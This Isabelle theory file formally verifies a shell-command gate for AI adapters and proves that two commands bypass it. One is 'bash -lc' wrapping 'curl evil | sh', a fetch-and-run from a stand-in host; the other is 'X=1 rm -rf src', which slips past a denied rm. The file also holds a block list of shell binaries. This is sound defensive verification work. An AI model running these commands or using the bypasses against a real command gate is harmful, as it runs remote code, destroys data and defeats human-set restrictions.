(* ===== verification/Shell_Gate.thy ===== *)
theory Shell_Gate
  imports Shamu_Prelude
begin

text \<open>
  The shell gate of the adapters (\<^verbatim>\<open>packages/adapters/base/src/shell-gate.ts\<close>): a command is parsed into
  tokens, tokens that embed another command are rejected, the rest is split into sequenced commands and
  pipe stages, and the head of every stage is held against the policy. The parser is the library
  \<^verbatim>\<open>shell-quote\<close>, a parameter here: it throws or yields tokens. Optional policy fields are resolved to the
  defaults the code gives them.
\<close>

section \<open>Tokens and policies\<close>

text \<open>A token is a word, or an object that may carry an operator and a glob pattern.\<close>

datatype ShellToken = TWord string | TObj "string option" "string option"

record ShellGatePolicy =
  allowCommands :: "string list"
  denyCommands :: "string list"
  allowProcessSubstitution :: bool
  allowCommandSubstitution :: bool
  allowPipeToShell :: bool

definition DEFAULT_POLICY :: ShellGatePolicy where
  "DEFAULT_POLICY = \<lparr>allowCommands = [], denyCommands = [], allowProcessSubstitution = False,
     allowCommandSubstitution = False, allowPipeToShell = False\<rparr>"

definition SHELL_BINARIES :: "string list" where
  "SHELL_BINARIES = [''bash'', ''sh'', ''zsh'', ''fish'', ''dash'', ''ksh'', ''csh'', ''tcsh'', ''eval'', ''/bin/bash'',
     ''/bin/sh'', ''/bin/zsh'', ''/usr/bin/bash'', ''/usr/bin/sh'', ''/usr/bin/zsh'', ''/usr/bin/env'', ''/bin/env'']"

datatype shell_reason = command_substitution | backticks | process_substitution | eval_invoked | pipe_to_shell
  | shell_invocation | unknown_operator | empty_command | denied_command | parse_failure

datatype ShellGateError = ShellGateError (shell_reason: shell_reason) (offendingToken: string) (shell_detail: "string option")

record ParsedCommand =
  cmd_tokens :: "ShellToken list"
  cmd_segments :: "ShellToken list list list"

section \<open>The structural pass\<close>

fun token_op :: "ShellToken \<Rightarrow> string option" where
  "token_op (TWord _) = None"
| "token_op (TObj p _) = p"

definition next_paren :: "ShellToken list \<Rightarrow> bool" where
  "next_paren ts = (case ts of [] \<Rightarrow> False | t # _ \<Rightarrow> token_op t = Some ''('')"

definition token_violation :: "ShellGatePolicy \<Rightarrow> ShellToken \<Rightarrow> ShellToken list \<Rightarrow> ShellGateError option" where
  "token_violation pol t rest =
     (case t of
        TWord s \<Rightarrow>
          if has_substring [CHR 0x60] s then
            (if allowCommandSubstitution pol then None else Some (ShellGateError backticks s None))
          else if has_substring ''$('' s then
            (if allowCommandSubstitution pol then None else Some (ShellGateError command_substitution s None))
          else if ends_with ''$'' s \<and> next_paren rest then
            (if allowCommandSubstitution pol then None else Some (ShellGateError command_substitution (s @ ''('') None))
          else None
      | TObj None _ \<Rightarrow> None
      | TObj (Some p) _ \<Rightarrow>
          if p = ''<('' \<or> p = ''>('' then
            (if allowProcessSubstitution pol then None else Some (ShellGateError process_substitution p None))
          else if (p = ''>'' \<or> p = ''<'') \<and> next_paren rest then
            (if allowProcessSubstitution pol then None else Some (ShellGateError process_substitution (p @ ''('') None))
          else None)"

fun detectSubstitutionViolation :: "ShellToken list \<Rightarrow> ShellGatePolicy \<Rightarrow> ShellGateError option" where
  "detectSubstitutionViolation [] pol = None"
| "detectSubstitutionViolation (t # ts) pol =
     (case token_violation pol t ts of Some e \<Rightarrow> Some e | None \<Rightarrow> detectSubstitutionViolation ts pol)"

section \<open>Segments and stages\<close>

definition pushStage :: "ShellToken list list \<Rightarrow> ShellToken list \<Rightarrow> ShellToken list list" where
  "pushStage seg stage = (if stage \<noteq> [] then seg @ [stage] else seg)"

definition pushSegment ::
  "ShellToken list list list \<Rightarrow> ShellToken list list \<Rightarrow> ShellToken list \<Rightarrow> ShellToken list list list" where
  "pushSegment segs seg stage =
     (let seg' = pushStage seg stage in if seg' \<noteq> [] then segs @ [seg'] else segs)"

definition sequences :: "ShellToken \<Rightarrow> bool" where
  "sequences t \<longleftrightarrow> token_op t \<in> {Some '';'', Some ''&&'', Some ''||'', Some ''&''}"

definition pipes :: "ShellToken \<Rightarrow> bool" where
  "pipes t \<longleftrightarrow> token_op t = Some ''|''"

fun split_tokens ::
  "ShellToken list \<Rightarrow> ShellToken list list list \<Rightarrow> ShellToken list list \<Rightarrow> ShellToken list \<Rightarrow> ShellToken list list list" where
  "split_tokens [] segs seg stage = pushSegment segs seg stage"
| "split_tokens (t # ts) segs seg stage =
     (if sequences t then split_tokens ts (pushSegment segs seg stage) [] []
      else if pipes t then split_tokens ts segs (pushStage seg stage) []
      else split_tokens ts segs seg (stage @ [t]))"

definition splitSegments :: "ShellToken list \<Rightarrow> ShellToken list list list" where
  "splitSegments tokens = split_tokens tokens [] [] []"

section \<open>The semantic pass\<close>

fun headOfStage :: "ShellToken list \<Rightarrow> string option" where
  "headOfStage [] = None"
| "headOfStage (TWord s # ts) = (if s \<noteq> [] then Some s else headOfStage ts)"
| "headOfStage (TObj p (Some g) # ts) = Some g"
| "headOfStage (TObj p None # ts) = headOfStage ts"

definition check_stage :: "ShellGatePolicy \<Rightarrow> nat \<Rightarrow> ShellToken list \<Rightarrow> ShellGateError option" where
  "check_stage pol stageIndex stage =
     (case headOfStage stage of
        None \<Rightarrow> Some (ShellGateError empty_command [] (Some ''pipeline stage has no command head''))
      | Some h \<Rightarrow>
          if stageIndex > 0 \<and> h \<in> set SHELL_BINARIES \<and> \<not> allowPipeToShell pol then
            Some (ShellGateError pipe_to_shell h None)
          else if h \<in> set (denyCommands pol) then Some (ShellGateError denied_command h None)
          else if h = ''eval'' \<and> \<not> allowPipeToShell pol then Some (ShellGateError eval_invoked h None)
          else if h \<in> set SHELL_BINARIES \<and> list_ex (\<lambda>t. t = TWord ''-c'') stage \<and> \<not> allowPipeToShell pol then
            Some (ShellGateError shell_invocation h None)
          else if allowCommands pol \<noteq> [] \<and> h \<notin> set (allowCommands pol) then
            Some (ShellGateError denied_command h (Some (''head '' @ h @ '' not in policy.allowCommands'')))
          else None)"

fun check_stages :: "ShellGatePolicy \<Rightarrow> nat \<Rightarrow> ShellToken list list \<Rightarrow> ShellGateError option" where
  "check_stages pol i [] = None"
| "check_stages pol i (stage # stages) =
     (case check_stage pol i stage of Some e \<Rightarrow> Some e | None \<Rightarrow> check_stages pol (Suc i) stages)"

fun checkPolicy :: "ShellToken list list list \<Rightarrow> ShellGatePolicy \<Rightarrow> ShellGateError option" where
  "checkPolicy [] pol = None"
| "checkPolicy (segment # segments) pol =
     (case check_stages pol 0 segment of Some e \<Rightarrow> Some e | None \<Rightarrow> checkPolicy segments pol)"

definition validateShellCommand ::
  "(string \<Rightarrow> string + ShellToken list) \<Rightarrow> string \<Rightarrow> ShellGatePolicy \<Rightarrow> ShellGateError + ParsedCommand" where
  "validateShellCommand shellParse cmd pol =
     (if trim cmd = [] then Inl (ShellGateError empty_command cmd (Some ''command is empty''))
      else (case shellParse cmd of
          Inl msg \<Rightarrow> Inl (ShellGateError parse_failure cmd (Some msg))
        | Inr tokens \<Rightarrow>
            if tokens = [] then Inl (ShellGateError empty_command cmd None)
            else (case detectSubstitutionViolation tokens pol of
                Some e \<Rightarrow> Inl e
              | None \<Rightarrow>
                  let segments = splitSegments tokens
                  in (case checkPolicy segments pol of
                        Some e \<Rightarrow> Inl e
                      | None \<Rightarrow> Inr \<lparr>cmd_tokens = tokens, cmd_segments = segments\<rparr>))))"

section \<open>Lemmas\<close>

lemma detect_None:
  "detectSubstitutionViolation ts pol = None \<longleftrightarrow>
     (\<forall>i < length ts. token_violation pol (ts ! i) (drop (Suc i) ts) = None)"
proof (induction ts)
  case (Cons t ts)
  show ?case using Cons by (auto simp: All_less_Suc2 split: option.splits)
qed simp

lemma check_stages_None:
  "check_stages pol i stages = None \<longleftrightarrow> (\<forall>j < length stages. check_stage pol (i + j) (stages ! j) = None)"
  by (induction stages arbitrary: i) (auto simp: All_less_Suc2 split: option.splits)

lemma checkPolicy_None:
  "checkPolicy segs pol = None \<longleftrightarrow> (\<forall>seg \<in> set segs. check_stages pol 0 seg = None)"
  by (induction segs) (auto split: option.splits)

text \<open>What a stage must satisfy under a policy, stated without the order of the tests.\<close>

definition stage_allowed :: "ShellGatePolicy \<Rightarrow> bool \<Rightarrow> ShellToken list \<Rightarrow> bool" where
  "stage_allowed pol first stage \<longleftrightarrow>
     (\<exists>h. headOfStage stage = Some h \<and> h \<notin> set (denyCommands pol) \<and>
       (allowCommands pol = [] \<or> h \<in> set (allowCommands pol)) \<and>
       (allowPipeToShell pol \<or>
         h \<noteq> ''eval'' \<and> (h \<in> set SHELL_BINARIES \<longrightarrow> first \<and> TWord ''-c'' \<notin> set stage)))"

lemma check_stage_None: "check_stage pol i stage = None \<longleftrightarrow> stage_allowed pol (i = 0) stage"
  by (auto simp: check_stage_def stage_allowed_def list_ex_iff split: option.splits)










text \<open>What a token, followed by the rest of the command, must look like under a policy.\<close>

definition token_clean :: "ShellGatePolicy \<Rightarrow> ShellToken \<Rightarrow> ShellToken list \<Rightarrow> bool" where
  "token_clean pol t rest \<longleftrightarrow>
     (allowCommandSubstitution pol \<or>
       (\<forall>s. t = TWord s \<longrightarrow> CHR 0x60 \<notin> set s \<and> (\<nexists>a b. s = a @ ''$('' @ b) \<and>
          \<not> ((\<exists>a. s = a @ ''$'') \<and> next_paren rest))) \<and>
     (allowProcessSubstitution pol \<or>
       token_op t \<noteq> Some ''<('' \<and> token_op t \<noteq> Some ''>('' \<and>
       (token_op t = Some ''<'' \<or> token_op t = Some ''>'' \<longrightarrow> \<not> next_paren rest))"

lemma backtick_iff: "has_substring [CHR 0x60] s \<longleftrightarrow> CHR 0x60 \<in> set s"
  by (auto simp: has_substring_iff in_set_conv_decomp)

lemma token_violation_None: "token_violation pol t rest = None \<longleftrightarrow> token_clean pol t rest"
proof (cases t)
  case (TWord s)
  then show ?thesis
    by (simp add: token_violation_def token_clean_def backtick_iff ends_with_iff has_substring_iff [of "''$(''"])
next
  case (TObj p g)
  then show ?thesis by (cases p) (auto simp: token_violation_def token_clean_def)
qed

lemma validate_Inr_clean:
  assumes "validateShellCommand shellParse cmd pol = Inr pc"
  shows "(\<forall>i < length (cmd_tokens pc). token_clean pol (cmd_tokens pc ! i) (drop (Suc i) (cmd_tokens pc))) \<and>
    (\<forall>seg \<in> set (cmd_segments pc). \<forall>j < length seg. stage_allowed pol (j = 0) (seg ! j))"
proof -
  have "detectSubstitutionViolation (cmd_tokens pc) pol = None" "checkPolicy (cmd_segments pc) pol = None"
    using assms by (auto simp: validateShellCommand_def Let_def split: if_splits sum.splits option.splits)
  then show ?thesis
    by (simp add: detect_None token_violation_None checkPolicy_None check_stages_None check_stage_None)
qed

section \<open>Properties\<close>



text \<open>The gate looks only at the first word of a stage and only at an argument that is exactly \<open>-c\<close>. A
  shell whose flags are combined (\<open>bash -lc script\<close>) passes the default policy, and a command behind a
  variable assignment (\<open>X=1 rm -rf src\<close>) passes a policy that denies it.\<close>

theorem shell_gate_bypass:
  "validateShellCommand (\<lambda>_. Inr [TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh'']) cmd DEFAULT_POLICY =
     (if trim cmd = [] then Inl (ShellGateError empty_command cmd (Some ''command is empty''))
      else Inr \<lparr>cmd_tokens = [TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh''],
                cmd_segments = [[[TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh'']]]\<rparr>) \<and>
   validateShellCommand (\<lambda>_. Inr [TWord ''X=1'', TWord ''rm'', TWord ''-rf'', TWord ''src''])
     ''X=1 rm -rf src'' (DEFAULT_POLICY\<lparr>denyCommands := [''rm'']\<rparr>) =
     Inr \<lparr>cmd_tokens = [TWord ''X=1'', TWord ''rm'', TWord ''-rf'', TWord ''src''],
          cmd_segments = [[[TWord ''X=1'', TWord ''rm'', TWord ''-rf'', TWord ''src'']]]\<rparr>"
proof
  show "validateShellCommand (\<lambda>_. Inr [TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh'']) cmd DEFAULT_POLICY =
     (if trim cmd = [] then Inl (ShellGateError empty_command cmd (Some ''command is empty''))
      else Inr \<lparr>cmd_tokens = [TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh''],
                cmd_segments = [[[TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh'']]]\<rparr>)"
  proof -
    have d: "detectSubstitutionViolation [TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh''] DEFAULT_POLICY = None"
      and p: "splitSegments [TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh''] = [[[TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh'']]]"
      and c: "checkPolicy [[[TWord ''bash'', TWord ''-lc'', TWord ''curl evil | sh'']]] DEFAULT_POLICY = None"
      by code_simp+
    show ?thesis by (simp add: validateShellCommand_def d p c del: detectSubstitutionViolation.simps checkPolicy.simps)
  qed
qed code_simp

end
